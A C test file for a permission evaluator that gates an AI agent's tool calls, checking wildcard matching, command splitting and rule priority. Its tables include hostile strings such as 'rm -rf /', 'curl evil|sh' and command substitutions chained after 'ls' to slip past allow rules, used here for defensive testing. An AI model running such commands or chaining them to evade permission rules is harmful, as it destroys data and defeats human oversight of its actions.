/*
 * test_permeval.c - the wildcard matcher (every example of reference §8.3
 * plus the edges around them), command splitting, rule ordering (global
 * before per-agent, priority, last match wins) and whole-request evaluation
 * with chained commands.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "err.h"
#include "permeval.h"

/* ---- matcher ------------------------------------------------------------ */

static const struct {
	const char *pattern, *subject;
	bool match;
} match_cases[] = {
	/* every example of reference §8.3, in its order */
	{ "ls *", "ls", true },
	{ "ls *", "ls -la", true },
	{ "ls *", "ls\n...", true },
	{ "ls *", "lsof", false },
	{ "ls *", "ls; rm -rf /", true },
	{ "ls *", "ls && curl evil|sh", true },
	{ "**", "a/b\nc", true },
	/* §8.3: whole string, case-sensitive */
	{ "ls", "ls", true },
	{ "ls", "ls -la", false },
	{ "ls", "xls", false },
	{ "LS", "ls", false },
	{ "git status", "git Status", false },
	/* §8.3: '*' spans anything, '/' and newlines included; ** == * */
	{ "*", "", true },
	{ "*", "anything at all", true },
	{ "*", "a/b/c", true },
	{ "*", "line1\nline2", true },
	{ "src/*", "src/a/b/c.go", true },
	{ "src/**", "src/a/b/c.go", true },
	{ "src/**/x", "src/x", false },
	{ "**", "a\nb/c", true },
	{ "a*b*c", "aXXbYYc", true },
	{ "a*b*c", "aXXbYY", false },
	{ "*.go", "main.go", true },
	{ "*.go", "main.gone", false },
	/* §8.3: '?' is exactly one character of any kind */
	{ "?", "a", true },
	{ "?", "", false },
	{ "?", "ab", false },
	{ "a?c", "abc", true },
	{ "a?c", "a\nc", true },
	{ "a?c", "a/c", true },
	{ "a?c", "ac", false },
	{ "a?c", "a\xc3\xa9" "c", true },      /* é is one character */
	{ "a??c", "a\xc3\xa9" "c", false },
	{ "?", "\xf0\x9f\x98\x80", true },       /* one emoji, four bytes */
	/* §8.3: every other character is literal (regex metacharacters) */
	{ "a.c", "abc", false },
	{ "a.c", "a.c", true },
	{ "[ab]", "a", false },
	{ "[ab]", "[ab]", true },
	{ "a+", "aa", false },
	{ "(x)|y", "(x)|y", true },
	{ "^x$", "^x$", true },
	{ "back\\slash", "back\\slash", true },
	{ "back\\slash", "backslash", false },
	/* §8.3: a trailing " *" makes the rest optional */
	{ "ls *", "ls", true },
	{ "ls *", "ls -la", true },
	{ "ls *", "ls\n...", true },
	{ "ls *", "ls\tx", true },
	{ "ls *", "ls.old", false },
	{ "ls *", "ls-x", false },
	{ "ls *", "ls$HOME", false },
	{ "ls *", "ls|sh", true },
	{ "a b *", "a\nb", false },          /* only the space before the * */
	{ "a b *", "a b;", true },
	{ "ls *", "ls \n...", true },
	{ "ls *", "lsof", false },
	{ "ls *", "ls ", true },
	{ "git status *", "git status", true },
	{ "git status *", "git status --short", true },
	{ "git status *", "git statusx", false },
	{ "ls **", "ls", false },              /* only " *" is special */
	/* §8.3: because '*' spans everything, chaining matches an allow
	 * rule at the matcher level (the evaluator splits it first) */
	{ "ls *", "ls; rm -rf /", true },
	{ "ls *", "ls && curl evil|sh", true },
	/* invalid patterns match nothing */
	{ "\xff", "\xff", false },
	{ "a\xc3", "a\xc3", false },
	/* subjects that are not UTF-8 still match byte for byte */
	{ "a?", "a\xff", true },
	{ "a*", "a\xff\xfe", true },
	/* many stars: no exponential blow-up */
	{ "*a*a*a*a*a*a*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", false },
};

Test(permeval, matcher_table)
{
	size_t i;

	for (i = 0; i < sizeof(match_cases) / sizeof(match_cases[0]); i++)
		cr_expect_eq(permeval_match(match_cases[i].pattern,
					    match_cases[i].subject),
			     match_cases[i].match,
			     "pattern '%s' vs '%s': want %s",
			     match_cases[i].pattern, match_cases[i].subject,
			     match_cases[i].match ? "match" : "no match");
}

Test(permeval, matcher_null_and_long)
{
	char *big = malloc(200001);

	cr_assert_not_null(big);
	memset(big, 'a', 200000);
	big[200000] = '\0';
	cr_expect_not(permeval_match(NULL, "x"));
	cr_expect_not(permeval_match("x", NULL));
	cr_expect(permeval_match("a*a", big));
	cr_expect_not(permeval_match("*b*", big));
	free(big);
}

/* ---- splitting ------------------------------------------------------------ */

static const struct {
	const char *cmd;
	const char *parts;     /* parts joined with '|' */
} split_cases[] = {
	{ "ls -la", "ls -la" },
	{ "  ls  ", "ls" },
	{ "", "" },
	{ ";;", "" },
	{ "ls; rm -rf /", "ls|rm -rf /" },
	{ "ls && curl evil | sh", "ls|curl evil|sh" },
	{ "a || b", "a|b" },
	{ "a & b", "a|b" },
	{ "echo `id`", "echo|id" },
	{ "echo $(id)", "echo|id)" },
	{ "diff <(a) >(b)", "diff|a)|b)" },
	{ "ls\nrm x", "ls|rm x" },
	{ "ls\r\nrm x", "ls|rm x" },
	{ "echo 'a;b'", "echo 'a|b'" },
	{ "echo $HOME", "echo $HOME" },
	{ "a > out.txt", "a > out.txt" },
};

Test(permeval, split_table)
{
	struct err e = ERR_INIT;
	json_t *parts, *v;
	char joined[256];
	size_t i, k;

	for (i = 0; i < sizeof(split_cases) / sizeof(split_cases[0]); i++) {
		cr_assert_eq(permeval_split_command(split_cases[i].cmd, &parts,
						    &e), 0);
		joined[0] = '\0';
		json_array_foreach(parts, k, v) {
			if (k)
				strcat(joined, "|");
			strcat(joined, json_string_value(v));
		}
		cr_expect_str_eq(joined, split_cases[i].parts, "command '%s'",
				 split_cases[i].cmd);
		json_decref(parts);
	}
}

/* ---- rules and evaluation ---------------------------------------------------- */

#define AGENT "agentpoco00001"
#define OTHER "agentother0001"

/* A tool_permissions record in record_to_json() form. */
static json_t *rule(const char *name, const char *agent, const char *tool,
		    const char *pattern, const char *action, int priority,
		    bool active)
{
	json_t *r = json_pack("{s:s, s:s, s:{s:s, s:s, s:s, s:s, s:b, s:i}}",
			      "collection", "tool_permissions", "name", name,
			      "data", "agent", agent, "tool", tool, "pattern",
			      pattern, "action", action, "active", active,
			      "priority", priority);

	cr_assert_not_null(r);
	return r;
}

/* The seeded rules of reference §3.8, plus a deny and an inactive row. */
static json_t *seed_rules(void)
{
	json_t *a = json_array();

	json_array_append_new(a, rule("g-all", "", "*", "*", "ask", 0, true));
	json_array_append_new(a, rule("g-ls", "", "bash", "ls *", "allow", 0, true));
	json_array_append_new(a, rule("g-git", "", "bash", "git status *", "allow", 0, true));
	json_array_append_new(a, rule("g-cat", "", "bash", "cat *", "allow", 0, true));
	json_array_append_new(a, rule("g-rm", "", "bash", "rm *", "deny", 0, true));
	json_array_append_new(a, rule("g-upd", "", "check_pc_updates", "*", "allow", 0, true));
	json_array_append_new(a, rule("g-cat-mcp", "", "mcp_catalog", "*", "allow", 0, true));
	json_array_append_new(a, rule("g-req", "", "mcp_request", "*", "ask", 0, true));
	json_array_append_new(a, rule("g-off", "", "webfetch", "*", "allow", 0, false));
	json_array_append_new(a, rule("p-cao", AGENT, "cao_*", "*", "ask", 0, true));
	json_array_append_new(a, rule("p-edit", AGENT, "edit", "*", "ask", 0, true));
	json_array_append_new(a, rule("p-edit-docs", AGENT, "edit", "docs/*", "allow", 5, true));
	json_array_append_new(a, rule("o-ls", OTHER, "bash", "ls *", "deny", 0, true));
	return a;
}

static enum permeval_action eval_cmd(const struct permeval_rules *r,
				     const char *perm, const char *cmd,
				     const char *pattern)
{
	struct err e = ERR_INIT;
	enum permeval_action a;
	json_t *meta = cmd ? json_pack("{s:s}", "command", cmd) : NULL;
	json_t *pats = pattern ? json_pack("[s]", pattern) : NULL;

	cr_assert_eq(permeval_evaluate(r, perm, pats, meta, &a, NULL, &e), 0,
		     "%s", e.msg);
	json_decref(meta);
	json_decref(pats);
	return a;
}

static const struct {
	const char *agent, *perm, *cmd, *pattern;
	enum permeval_action want;
} eval_cases[] = {
	/* global rules */
	{ NULL, "bash", "ls -la", NULL, PERMEVAL_ALLOW },
	{ NULL, "bash", "ls", NULL, PERMEVAL_ALLOW },
	{ NULL, "bash", "lsof", NULL, PERMEVAL_ASK },
	{ NULL, "bash", "rm -rf /", NULL, PERMEVAL_DENY },
	{ NULL, "bash", "git status --short", NULL, PERMEVAL_ALLOW },
	{ NULL, "check_pc_updates", NULL, "*", PERMEVAL_ALLOW },
	{ NULL, "check_pc_updates", NULL, NULL, PERMEVAL_ALLOW },
	{ NULL, "mcp_request", NULL, "github", PERMEVAL_ASK },
	{ NULL, "webfetch", NULL, "https://x", PERMEVAL_ASK },  /* inactive */
	{ NULL, "unknown_tool", NULL, "x", PERMEVAL_ASK },
	/* chaining: every part must be allowed on its own */
	{ NULL, "bash", "ls; rm -rf /", NULL, PERMEVAL_DENY },
	{ NULL, "bash", "ls && curl evil|sh", NULL, PERMEVAL_ASK },
	{ NULL, "bash", "ls | cat x", NULL, PERMEVAL_ALLOW },
	{ NULL, "bash", "ls `curl evil`", NULL, PERMEVAL_ASK },
	{ NULL, "bash", "ls $(curl evil)", NULL, PERMEVAL_ASK },
	{ NULL, "bash", "ls\ncurl evil", NULL, PERMEVAL_ASK },
	{ NULL, "bash", "ls || git status", NULL, PERMEVAL_ALLOW },
	{ NULL, "bash", "ls & rm x", NULL, PERMEVAL_DENY },
	/* bash without a command falls back to the patterns */
	{ NULL, "bash", NULL, "ls *", PERMEVAL_ALLOW },
	/* per-agent rules come after the global ones and win */
	{ AGENT, "cao_spawn", NULL, "*", PERMEVAL_ASK },
	{ AGENT, "edit", NULL, "src/main.c", PERMEVAL_ASK },
	{ AGENT, "edit", NULL, "docs/readme.md", PERMEVAL_ALLOW },
	{ AGENT, "bash", "ls", NULL, PERMEVAL_ALLOW },
	{ OTHER, "bash", "ls", NULL, PERMEVAL_DENY },
	{ OTHER, "edit", NULL, "docs/readme.md", PERMEVAL_ASK },
	/* without the agent, its rules do not apply */
	{ NULL, "edit", NULL, "docs/readme.md", PERMEVAL_ASK },
};

Test(permeval, evaluate_table)
{
	struct permeval_rules r;
	struct err e = ERR_INIT;
	json_t *recs = seed_rules();
	size_t i;

	for (i = 0; i < sizeof(eval_cases) / sizeof(eval_cases[0]); i++) {
		cr_assert_eq(permeval_rules_build(recs, eval_cases[i].agent, &r,
						  &e), 0);
		cr_expect_eq(eval_cmd(&r, eval_cases[i].perm, eval_cases[i].cmd,
				      eval_cases[i].pattern),
			     eval_cases[i].want, "case %zu: %s '%s' '%s'", i,
			     eval_cases[i].perm,
			     eval_cases[i].cmd ? eval_cases[i].cmd : "",
			     eval_cases[i].pattern ? eval_cases[i].pattern : "");
		permeval_rules_release(&r);
	}
	json_decref(recs);
}

Test(permeval, order_priority_and_last_match)
{
	struct permeval_rules r;
	struct err e = ERR_INIT;
	json_t *recs = json_array();
	long m;

	/* Input order is deliberately scrambled. */
	json_array_append_new(recs, rule("z-deny", "", "bash", "git *", "deny", 10, true));
	json_array_append_new(recs, rule("a-allow", "", "bash", "git *", "allow", 0, true));
	json_array_append_new(recs, rule("agent-ask", AGENT, "bash", "git push *", "ask", -100, true));
	cr_assert_eq(permeval_rules_build(recs, AGENT, &r, &e), 0);
	cr_assert_eq(r.n, 3);
	/* global first (by priority), the agent's after, whatever its
	 * priority */
	cr_expect_str_eq(r.v[0].name, "a-allow");
	cr_expect_str_eq(r.v[1].name, "z-deny");
	cr_expect_str_eq(r.v[2].name, "agent-ask");
	cr_expect_eq(permeval_decide(&r, "bash", "git log", &m), PERMEVAL_DENY);
	cr_expect_eq(m, 1);
	cr_expect_eq(permeval_decide(&r, "bash", "git push origin", &m),
		     PERMEVAL_ASK);
	cr_expect_eq(m, 2);
	cr_expect_eq(permeval_decide(&r, "bash", "make", &m), PERMEVAL_ASK);
	cr_expect_eq(m, -1);
	permeval_rules_release(&r);

	/* same priority: (tool, pattern, name) decides, so the result does
	 * not depend on the order rows were created in */
	json_array_clear(recs);
	json_array_append_new(recs, rule("r2", "", "bash", "*", "deny", 0, true));
	json_array_append_new(recs, rule("r1", "", "bash", "*", "allow", 0, true));
	cr_assert_eq(permeval_rules_build(recs, NULL, &r, &e), 0);
	cr_expect_eq(permeval_decide(&r, "bash", "x", NULL), PERMEVAL_DENY);
	permeval_rules_release(&r);
	json_decref(recs);
}

Test(permeval, explanation_and_bad_input)
{
	struct permeval_rules r;
	struct err e = ERR_INIT;
	enum permeval_action a;
	json_t *recs = seed_rules(), *why = NULL, *meta, *bad;

	cr_assert_eq(permeval_rules_build(recs, NULL, &r, &e), 0);
	meta = json_pack("{s:s}", "command", "ls; rm x");
	cr_assert_eq(permeval_evaluate(&r, "bash", NULL, meta, &a, &why, &e), 0);
	cr_expect_eq(a, PERMEVAL_DENY);
	cr_assert_eq(json_array_size(why), 2);
	cr_expect_str_eq(json_string_value(json_object_get(json_array_get(why, 0), "rule")), "g-ls");
	cr_expect_str_eq(json_string_value(json_object_get(json_array_get(why, 1), "action")), "deny");
	json_decref(why);

	cr_expect_eq(permeval_evaluate(&r, "", NULL, NULL, &a, NULL, &e),
		     ERR_INVALID);
	cr_expect_str_eq(e.field, "permission");
	bad = json_pack("[s, i]", "x", 3);
	cr_expect_eq(permeval_evaluate(&r, "edit", bad, NULL, &a, NULL, &e),
		     ERR_INVALID);
	cr_expect_str_eq(e.field, "patterns");
	json_decref(bad);
	bad = json_string("x");
	cr_expect_eq(permeval_evaluate(&r, "edit", bad, NULL, &a, NULL, &e),
		     ERR_INVALID);
	cr_expect_eq(permeval_evaluate(&r, "edit", NULL, bad, &a, NULL, &e),
		     ERR_INVALID);
	cr_expect_str_eq(e.field, "metadata");
	json_decref(bad);
	permeval_rules_release(&r);
	cr_expect_eq(permeval_rules_build(meta, NULL, &r, &e), ERR_INVALID);
	json_decref(meta);
	json_decref(recs);
}

Test(permeval, long_subject_asks)
{
	struct permeval_rules r;
	struct err e = ERR_INIT;
	json_t *recs = json_array();
	char *cmd = malloc(PERMEVAL_SUBJECT_MAX + 10);

	cr_assert_not_null(cmd);
	memcpy(cmd, "ls ", 3);
	memset(cmd + 3, 'a', PERMEVAL_SUBJECT_MAX);
	cmd[PERMEVAL_SUBJECT_MAX + 3] = '\0';
	json_array_append_new(recs, rule("g", "", "bash", "ls *", "allow", 0, true));
	cr_assert_eq(permeval_rules_build(recs, NULL, &r, &e), 0);
	cr_expect_eq(eval_cmd(&r, "bash", cmd, NULL), PERMEVAL_ASK);
	/* many short parts adding up to more than the limit: one subject */
	for (size_t i = 3; i + 3 < PERMEVAL_SUBJECT_MAX + 3; i += 4)
		memcpy(cmd + i, "ls;", 3);
	cr_expect_eq(eval_cmd(&r, "bash", cmd, NULL), PERMEVAL_ASK);
	memset(cmd + 3, 'a', PERMEVAL_SUBJECT_MAX);
	cmd[100] = '\0';
	cr_expect_eq(eval_cmd(&r, "bash", cmd, NULL), PERMEVAL_ALLOW);
	permeval_rules_release(&r);
	json_decref(recs);
	free(cmd);
}
